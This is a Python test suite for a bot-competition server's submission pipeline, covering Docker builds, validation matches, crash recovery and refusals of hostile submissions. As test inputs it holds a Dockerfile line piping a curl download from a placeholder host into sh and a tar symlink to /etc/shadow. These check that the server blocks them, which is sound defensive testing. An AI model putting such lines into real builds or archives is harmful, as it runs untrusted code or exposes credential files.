"""arena.host.pipeline: a submission from its upload to the catalogue, with a real Docker engine,
real SQLite, real validation matches in containers (no mocks). Restarts are simulated by an
exception no handler catches, raised the moment a stage is recorded (what kill -9 leaves: the
stage committed, nothing after it); the server's own kill -9 tests run the real process."""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import shutil
import tarfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest

from arena.bots import catalogue
from arena.bots.files import add_to_tar, bot_files
from arena.bots.images.build import build_bot_image
from arena.host.accounts import Accounts
from arena.host.config import Competition, load_competition
from arena.host.pipeline import Pipeline, validation_log
from arena.host.submissions import (
    BUILT,
    CANCELLED,
    ENTERED,
    FAILED,
    PROGRESS,
    RECEIVING,
    REFUSED,
    UPLOADED,
    VALIDATED,
    StageEvent,
    SubmissionBook,
)
from arena.ladder.store import LadderStore

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[2]
GREEDY = ROOT / "sample_bots" / "lost-cities" / "greedy"
COMPETITION = """\
[competition]
name = "spring"

[quotas]
max_upload_mb = 1
submissions_per_day = 20
active_bots = 2

[games.lost-cities]
reference = "greedy"
house = ["random", "greedy"]

[games.lost-cities.ladder.options]
rounds = 1

[games.lost-cities.ladder.time_control]
startup_ms = 20000
"""
CRASHER = '''\
import sys

from arena.sdk import run

count = 0


def choose(decision):
    global count
    count += 1
    if count == 3:
        print("crasher: MARKER-7f3a about to divide by zero \\x1b[31m", file=sys.stderr,
              flush=True)
        return 1 // 0
    return decision.legal_actions[0]


run(choose, name="crasher")
'''


class Killed(BaseException):
    """What kill -9 leaves: no handler of the pipeline runs after it."""


class Env:
    """A competition on disk, its accounts (alice and bob) and submission book."""

    def __init__(self, root: Path, client: Any = None, text: str = COMPETITION) -> None:
        (root / "spring.toml").write_text(text, encoding="utf-8")
        self.root = root
        self.competition: Competition = load_competition(root / "spring.toml")
        engine = LadderStore(self.competition.database).engine
        self.accounts = Accounts(engine)
        self.book = SubmissionBook(engine)
        self.client = client
        for who in ("alice", "bob"):
            if who not in {c.name for c in self.accounts.list()}:
                self.accounts.add(who)
        self.events: list[StageEvent] = []

    def pipeline(self, kill_at: str = "", client: Any = None,
                 then: Mapping[str, Callable[[], None]] | None = None) -> Pipeline:
        """A pipeline over the env; ``kill_at``: killed as that stage is recorded; ``then``:
        what happens (outside the pipeline: the operator) once a stage is recorded."""
        def seen(event: StageEvent) -> None:
            self.events.append(event)
            if event.stage == kill_at:
                raise Killed(event.stage)
            if then and event.stage in then:
                then[event.stage]()

        return Pipeline(self.competition, self.accounts, self.book,
                        client=client or self.client, on_event=seen)

    def submit(self, payload: bytes, *, who: str = "alice", name: str = "",
               kind: str = "directory", kill_at: str = "", client: Any = None,
               then: Mapping[str, Callable[[], None]] | None = None) -> int:
        """Open a submission, upload it in 64 KiB chunks and process it; its id."""
        sid = self.book.open(who, "lost-cities", name, kind, len(payload),
                             hashlib.sha256(payload).hexdigest())
        pipeline = self.pipeline(kill_at, client, then)
        uploaded = pipeline.upload(sid, _chunks(payload))
        assert uploaded.stage == UPLOADED, uploaded
        pipeline.process(sid, pipeline.payload(sid))
        return sid

    def stages(self, sid: int) -> list[str]:
        return [e.stage for e in self.book.events(sid)]


def _chunks(data: bytes, size: int = 65536) -> Iterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start:start + size]


def bot_dir(root: Path, name: str, source: Path = GREEDY, code: str | None = None) -> Path:
    """A copy of a sample bot under another name (and, with ``code``, another bot.py)."""
    directory = root / "bots" / name
    shutil.copytree(source, directory)
    toml = (directory / "bot.toml").read_text(encoding="utf-8")
    (directory / "bot.toml").write_text(toml.replace('name = "greedy"', f'name = "{name}"'),
                                        encoding="utf-8")
    if code is not None:
        (directory / "bot.py").write_text(code, encoding="utf-8")
    return directory


def tar_of(directory: Path) -> bytes:
    """What the client sends: the bot directory's files as a tar."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        add_to_tar(tar, bot_files(directory))
    return buffer.getvalue()


@pytest.fixture()
def env(tmp_path: Path) -> Env:
    return Env(tmp_path)


@pytest.fixture()
def denv(tmp_path: Path, docker_client: Any, base_image: Any) -> Iterator[Env]:
    env = Env(tmp_path, docker_client)
    yield env
    for bot in catalogue.list_bots(home=env.competition.home):  # the tags the test made
        with contextlib.suppress(Exception):
            docker_client.images.remove(f"arena-bot/{bot.name.lower()}:{bot.version}")


# --- with Docker --------------------------------------------------------------------------
@pytest.mark.docker
def test_a_good_bot_is_built_validated_and_entered_as_s_id(denv: Env) -> None:
    sid = denv.submit(tar_of(bot_dir(denv.root, "alice-greedy")))
    assert denv.stages(sid) == [RECEIVING, UPLOADED, BUILT, VALIDATED, ENTERED]
    row = denv.book.get(sid)
    assert row is not None and (row.name, row.version, row.stage) == (
        "alice-greedy", f"s{sid}", ENTERED)
    assert row.match_ids == (f"s{sid}-self", f"s{sid}-reference")
    bot = catalogue.find("alice-greedy", f"s{sid}", home=denv.competition.home)
    assert bot is not None and bot.image == row.image and bot.game == "lost-cities"
    assert f"arena-bot/alice-greedy:s{sid}" in denv.client.images.get(row.image).tags
    for match_id in row.match_ids:
        assert validation_log(denv.competition, match_id).is_file()
    assert not (denv.competition.uploads / str(sid)).exists()
    assert denv.accounts.owner("alice-greedy") == "alice"
    assert [e.stage for e in denv.events] == [UPLOADED, BUILT, VALIDATED, ENTERED]


@pytest.mark.docker
def test_a_bot_that_crashes_is_refused_with_its_own_output(denv: Env) -> None:
    sid = denv.submit(tar_of(bot_dir(denv.root, "crasher", code=CRASHER)))
    row = denv.book.get(sid)
    assert row is not None and row.stage == REFUSED and row.counted
    assert "failed its validation match" in row.message and "crash" in row.message
    assert "MARKER-7f3a about to divide by zero" in row.detail  # the bot's own output tail
    assert "ZeroDivisionError" in row.detail
    assert "\x1b" not in row.detail and len(row.detail) <= 4096
    assert catalogue.find("crasher", home=denv.competition.home) is None
    assert not (denv.competition.uploads / str(sid)).exists()
    assert denv.accounts.owner("crasher") is None  # a name is claimed by an entry alone


@pytest.mark.docker
@pytest.mark.parametrize(("stage", "what"), [(BUILT, "revoke"), (VALIDATED, "revoke"),
                                             (VALIDATED, "assign")])
def test_what_changed_during_the_build_or_validation_stops_the_next_stage(
        denv: Env, stage: str, what: str) -> None:
    """ATTACK: the operator revokes alice while her submission is built or validated (or gives
    its name to bob): the next stage is not taken (no validation matches played, nothing
    entered), her image is removed, the name stays unclaimed (or bob's)."""
    def operator() -> None:
        if what == "revoke":
            denv.accounts.revoke("alice")
        else:
            denv.accounts.assign("nimble", "bob")

    sid = denv.submit(tar_of(bot_dir(denv.root, "nimble")), then={stage: operator})
    row = denv.book.get(sid)
    assert row is not None
    ended = CANCELLED if what == "revoke" else REFUSED
    assert denv.stages(sid) == [RECEIVING, UPLOADED, *PROGRESS[2:PROGRESS.index(stage) + 1],
                                ended]
    assert ("revoked" if what == "revoke" else "belongs to another contestant") in row.message
    assert row.counted is (what != "revoke")
    played = validation_log(denv.competition, f"s{sid}-self").is_file()
    assert played is (stage == VALIDATED)
    assert catalogue.find("nimble", home=denv.competition.home) is None
    assert denv.accounts.owner("nimble") == (None if what == "revoke" else "bob")
    with pytest.raises(Exception, match="No such image|not found"):
        denv.client.images.get(row.image)


@pytest.mark.docker
def test_a_refused_copy_leaves_the_image_another_bot_shares(denv: Env) -> None:
    """ATTACK: a directory the engine has built before (another bot's, the house bot's: a
    build of the same files is Docker's cached image, the same id) is submitted and refused
    (its name given to bob meanwhile). The refusal removed that image by id, taking it from
    the bot that shares it; now it stays."""
    directory = bot_dir(denv.root, "twin-of-house")
    shared = build_bot_image(directory, client=denv.client).image_id  # the other bot's

    def operator() -> None:
        denv.accounts.assign("twin-of-house", "bob")

    sid = denv.submit(tar_of(directory), then={BUILT: operator})
    row = denv.book.get(sid)
    assert row is not None and row.stage == REFUSED and row.image == shared, row
    assert denv.client.images.get(shared).id == shared  # still there for the bot sharing it


@pytest.mark.docker
def test_an_image_claiming_the_base_tag_is_entered_by_id_and_moves_no_tag(
        denv: Env, base_image: Any, tmp_path: Path) -> None:
    """ATTACK: a ``docker save`` submission whose manifest names ``arena/base:py311`` is
    loaded without its tags: the base keeps its image, the bot is entered by id."""
    from arena.bots.images.build import build_bot_image

    client = denv.client
    image = build_bot_image(bot_dir(tmp_path, "imgbot"), client=client).image_id
    raw = io.BytesIO(b"".join(client.images.get(image).save(named=False)))
    out = io.BytesIO()
    with tarfile.open(fileobj=raw) as src, tarfile.open(fileobj=out, mode="w") as dst:
        for member in src:
            data = src.extractfile(member).read() if member.isreg() else None  # type: ignore[union-attr]
            if member.name == "manifest.json":
                manifest = json.loads(data or b"")
                manifest[0]["RepoTags"] = ["arena/base:py311"]
                data = json.dumps(manifest).encode()
                member.size = len(data)
            dst.addfile(member, io.BytesIO(data) if data is not None else None)
    sid = denv.submit(out.getvalue(), name="imgbot", kind="image")
    row = denv.book.get(sid)
    assert row is not None and row.stage == ENTERED, (row.message, row.detail)
    assert row.image == image
    # (other test sessions may rebuild the base meanwhile: the tag is never the bot's)
    assert client.images.get("arena/base:py311").id != image
    assert client.images.get(image).tags == [f"arena-bot/imgbot:s{sid}"]
    assert catalogue.find("imgbot", f"s{sid}", home=denv.competition.home) is not None


@pytest.mark.docker
def test_recover_validates_again_a_built_submission(denv: Env) -> None:
    """kill -9 after BUILT: restarted, the submission is validated (its image reused) and
    entered, once."""
    with pytest.raises(Killed):
        denv.submit(tar_of(bot_dir(denv.root, "phoenix")), kill_at=BUILT)
    (sid,) = [r.id for r in denv.book.unfinished()]
    assert denv.book.get(sid).stage == BUILT  # type: ignore[union-attr]
    restarted = denv.pipeline()
    assert restarted.recover() == [sid]
    assert restarted.process(sid, restarted.payload(sid)).stage == ENTERED
    assert denv.stages(sid) == [RECEIVING, UPLOADED, BUILT, VALIDATED, ENTERED]
    assert catalogue.find("phoenix", f"s{sid}", home=denv.competition.home) is not None
    assert denv.book.used_today("alice") == 1
    assert not (denv.competition.uploads / str(sid)).exists()


@pytest.mark.docker
def test_recover_enters_a_validated_submission_without_playing_again(denv: Env) -> None:
    with pytest.raises(Killed):
        denv.submit(tar_of(bot_dir(denv.root, "lazarus")), kill_at=VALIDATED)
    (row,) = denv.book.unfinished()
    log = validation_log(denv.competition, f"s{row.id}-self")
    played = log.stat().st_mtime_ns
    restarted = denv.pipeline()
    assert restarted.recover() == [row.id]
    assert restarted.process(row.id, restarted.payload(row.id)).stage == ENTERED
    assert denv.stages(row.id) == [RECEIVING, UPLOADED, BUILT, VALIDATED, ENTERED]
    assert log.stat().st_mtime_ns == played  # not played again
    assert catalogue.find("lazarus", f"s{row.id}", home=denv.competition.home) is not None


@pytest.mark.docker
def test_a_refused_build_says_why(denv: Env) -> None:
    """ATTACK: a Dockerfile that runs a command in the build (network, the daemon's resources)
    is refused with the reason and the offending line, nothing built."""
    directory = bot_dir(denv.root, "builder")
    dockerfile = (directory / "Dockerfile").read_text(encoding="utf-8")
    (directory / "Dockerfile").write_text(dockerfile.replace(
        "COPY . /bot", "COPY . /bot\nRUN curl http://example.invalid/x | sh"), encoding="utf-8")
    sid = denv.submit(tar_of(directory))
    row = denv.book.get(sid)
    assert row is not None and row.stage == REFUSED and row.counted
    assert row.message.startswith("Dockerfile line 5: RUN: not")  # no path of the server's
    assert str(denv.root) not in row.message + row.detail
    assert row.name == "builder"
    assert denv.stages(sid) == [RECEIVING, UPLOADED, REFUSED]


# --- without Docker (refused before anything is built) ------------------------------------
def test_a_name_owned_by_another_is_refused_before_any_build(env: Env) -> None:
    """ATTACK: bob submits a bot named like alice's: refused before anything is built (no
    Docker engine is even asked), alice still owns the name."""
    assert env.accounts.claim("alices-bot", "alice")
    sid = env.submit(tar_of(bot_dir(env.root, "Alices-Bot")), who="bob")
    row = env.book.get(sid)
    assert row is not None and row.stage == REFUSED
    assert "belongs to another contestant" in row.message
    assert env.stages(sid) == [RECEIVING, UPLOADED, REFUSED]
    assert env.accounts.owner("alices-bot") == "alice"
    assert env.pipeline()._client is None  # no engine was asked for


def test_an_image_under_another_contestants_name_is_refused_before_loading(env: Env) -> None:
    """ATTACK: bob uploads an image under alice's bot name: refused before it is loaded (the
    bytes are not even a tar: nothing read them)."""
    assert env.accounts.claim("alices-bot", "alice")
    sid = env.submit(b"not even a tar", who="bob", name="alices-bot", kind="image")
    row = env.book.get(sid)
    assert row is not None and row.stage == REFUSED
    assert "belongs to another contestant" in row.message


def test_a_contestant_revoked_after_the_upload_has_nothing_built(env: Env) -> None:
    """ATTACK: alice is revoked once her upload is in: the pipeline checks her before the
    build and cancels the submission (not counted) without asking any engine."""
    sid = env.submit(tar_of(bot_dir(env.root, "latecomer")),
                     then={UPLOADED: lambda: env.accounts.revoke("alice")})
    assert env.stages(sid) == [RECEIVING, UPLOADED, CANCELLED]
    row = env.book.get(sid)
    assert row is not None and not row.counted and "revoked" in row.message
    assert env.pipeline()._client is None  # no engine was asked for
    assert not (env.competition.uploads / str(sid)).exists()


def test_a_house_bots_name_is_refused(env: Env) -> None:
    sid = env.submit(tar_of(bot_dir(env.root, "random")))
    row = env.book.get(sid)
    assert row is not None and row.stage == REFUSED and "house bot" in row.message
    assert env.accounts.owner("random") is None


def test_a_new_name_past_the_active_bots_quota_is_refused(env: Env) -> None:
    """The quota of active bots is checked once bot.toml gave the name (the server could not
    know it when the upload began)."""
    for name in ("one", "two"):
        sid = env.book.open("alice", "lost-cities", name, "directory", 1, "")
        for stage in (UPLOADED, BUILT, VALIDATED, ENTERED):
            env.book.advance(sid, stage)
    sid = env.submit(tar_of(bot_dir(env.root, "three")))
    row = env.book.get(sid)
    assert row is not None and row.stage == REFUSED and "2 active bots" in row.message
    assert env.accounts.owner("three") is None  # refused before the name was claimed


def test_an_upload_past_the_byte_quota_is_cut_and_counted(env: Env) -> None:
    """ATTACK: an upload far over ``max_upload_mb`` is cut at the limit (REFUSED, counted),
    nothing of it kept."""
    sid = env.book.open("alice", "lost-cities", "", "directory", 0, "")
    pipeline = env.pipeline()
    read = 0

    def huge() -> Iterator[bytes]:
        nonlocal read
        while True:
            read += 1
            yield bytes(1 << 16)

    event = pipeline.upload(sid, huge())
    assert event.stage == REFUSED and "limit of 1 MiB" in event.message
    assert read == 17
    assert not pipeline.workdir(sid).exists()
    assert env.book.get(sid).counted  # type: ignore[union-attr]


def test_a_broken_or_altered_upload_is_cancelled_and_not_counted(env: Env) -> None:
    pipeline = env.pipeline()
    payload = tar_of(bot_dir(env.root, "halfway"))

    def broken() -> Iterator[bytes]:
        yield payload[:1000]
        raise ConnectionResetError("the client went away")

    sid = env.book.open("alice", "lost-cities", "", "directory", len(payload), "")
    assert pipeline.upload(sid, broken()).stage == CANCELLED
    other = env.book.open("alice", "lost-cities", "", "directory", len(payload), "0" * 64)
    event = pipeline.upload(other, iter([payload]))
    assert event.stage == CANCELLED and "SHA-256" in event.message
    assert not pipeline.workdir(sid).exists() and not pipeline.workdir(other).exists()
    assert env.book.used_today("alice") == 0


def test_image_submissions_refused_when_the_competition_takes_none(tmp_path: Path) -> None:
    env = Env(tmp_path, text=COMPETITION.replace("max_upload_mb = 1",
                                                 "max_upload_mb = 1\nmax_image_upload_mb = 0"))
    sid = env.book.open("alice", "lost-cities", "img", "image", 10, "")
    event = env.pipeline().upload(sid, iter([b"x" * 10]))
    assert event.stage == REFUSED and "no image submissions" in event.message


def test_a_bad_tar_is_refused_naming_the_member(env: Env) -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        add_to_tar(tar, bot_files(bot_dir(env.root, "linky")))
        link = tarfile.TarInfo("secret")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/shadow"
        tar.addfile(link)
    sid = env.submit(buffer.getvalue())
    row = env.book.get(sid)
    assert row is not None and row.stage == REFUSED and "'secret', a symlink" in row.message


@pytest.mark.integration
def test_no_docker_engine_is_the_servers_failure_not_counted(env: Env) -> None:
    import docker

    gone = docker.DockerClient(base_url=f"unix://{env.root / 'no-engine.sock'}", version="1.41")
    sid = env.submit(tar_of(bot_dir(env.root, "unlucky")), client=gone)
    row = env.book.get(sid)
    assert row is not None and row.stage == FAILED and not row.counted
    assert "Docker engine does not answer" in row.message
    assert env.book.used_today("alice") == 0
    assert not (env.competition.uploads / str(sid)).exists()


def test_recover_cancels_a_half_received_upload_and_sweeps_leftovers(env: Env) -> None:
    pipeline = env.pipeline()
    sid = env.book.open("alice", "lost-cities", "", "directory", 5000, "")
    partial = pipeline.payload(sid)
    partial.parent.mkdir(parents=True)
    partial.write_bytes(b"x" * 1000)  # kill -9 mid-upload: the file half-written
    stray = env.competition.uploads / "999"
    stray.mkdir()
    (stray / "payload").write_bytes(b"junk")
    assert env.pipeline().recover() == []  # nothing to process again
    row = env.book.get(sid)
    assert row is not None and row.stage == CANCELLED and not row.counted
    assert not pipeline.workdir(sid).exists() and not stray.exists()
    assert env.pipeline().recover() == []  # nothing twice
    assert [e.stage for e in env.book.events(sid)].count(CANCELLED) == 1


def test_an_uploaded_submission_whose_payload_is_gone_fails_uncounted(env: Env) -> None:
    sid = env.book.open("alice", "lost-cities", "lost", "directory", 10, "")
    env.book.advance(sid, UPLOADED)
    pipeline = env.pipeline()
    assert pipeline.recover() == [sid]
    event = pipeline.process(sid, pipeline.payload(sid))
    assert event.stage == FAILED and "lost on the server" in event.message
    assert env.book.used_today("alice") == 0
